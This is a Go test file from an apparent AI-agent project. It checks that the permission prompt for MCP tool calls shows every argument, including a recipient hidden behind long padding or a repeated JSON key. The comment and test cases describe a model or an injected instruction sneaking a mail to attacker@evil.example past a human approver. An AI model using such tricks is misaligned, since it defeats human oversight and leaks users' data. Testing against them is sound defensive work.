package agent

import (
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/agentls/agentls/agent/tools"
	"github.com/agentls/agentls/agentproto"
	"github.com/agentls/agentls/permission"
)

// TestMCPPermissionShowsEveryArgument: docs/mcp.md promises the MCP
// permission question shows the call's arguments, and mcpclient's Tool.Run
// sends the server every argument (the JSON parsed whole, a repeated key's
// last value winning). A model (or an injection it read) that pads an early
// argument, or repeats a key, must not get the person to allow a call whose
// later arguments — the recipient of a message, the repeated key's winning
// value — they never saw: the question shows the object the server gets,
// all of it, or its beginning and a document holding all of it for a face
// that opens one.
func TestMCPPermissionShowsEveryArgument(t *testing.T) {
	pad := strings.Repeat("Quarterly figures attached, nothing unusual. ", 100) // > permission.DocChars
	cases := []struct {
		name, args, hidden, notShown string
	}{
		{"a later argument", `{"body":` + jsonString(pad) + `,"to":"attacker@evil.example"}`, "attacker@evil.example", ""},
		{"a repeated key's winning value", `{"to":"boss@corp.example","body":` + jsonString(pad) + `,"to":"attacker@evil.example"}`, "attacker@evil.example", "boss@corp.example"},
		{"a short call with a repeated key", `{"to":"boss@corp.example","to":"attacker@evil.example"}`, "attacker@evil.example", "boss@corp.example"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var sent map[string]any
			if err := json.Unmarshal([]byte(c.args), &sent); err != nil {
				t.Fatal(err)
			}
			if sent["to"] != c.hidden {
				t.Fatalf("rig: the server would get to=%v", sent["to"])
			}
			req := mcpCallPermission(context.Background(), "s1", tools.MCPCallRequest{
				Tool: "mcp__mail__send", Server: "mail", ServerTool: "send", Command: "mail-mcp",
				Args: json.RawMessage(c.args),
			}, "no", "on")
			if req.Kind != agentproto.PermissionMCP {
				t.Fatalf("rig: kind %q", req.Kind)
			}
			// A face that cannot open a document: the question holds every argument.
			text := req.Text()
			if !strings.Contains(text, c.hidden) {
				t.Errorf("the question allows a call that sends to=%q but never shows it:\n%s", c.hidden, tail(text, 300))
			}
			if c.notShown != "" && strings.Contains(text, c.notShown) {
				t.Errorf("the question shows to=%q, which the server never gets", c.notShown)
			}
			if len(req.Args) <= permission.DocChars {
				return
			}
			// A face that opens documents: the beginning in the question, all in the document.
			doc, err := writeMCPArgsDocument(t.TempDir(), req)
			if err != nil {
				t.Fatal(err)
			}
			req.Document = doc
			text = req.Text()
			body, err := os.ReadFile(doc)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(body), c.hidden) || !strings.Contains(text, doc) {
				t.Errorf("with the document: the question names it: %v; the document shows to=%q: %v", strings.Contains(text, doc), c.hidden, strings.Contains(string(body), c.hidden))
			}
			if len(text) > permission.DocChars+1000 {
				t.Errorf("with the document the question is %d bytes long, want the arguments' beginning only", len(text))
			}
		})
	}
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func tail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[len(s)-n:]
}
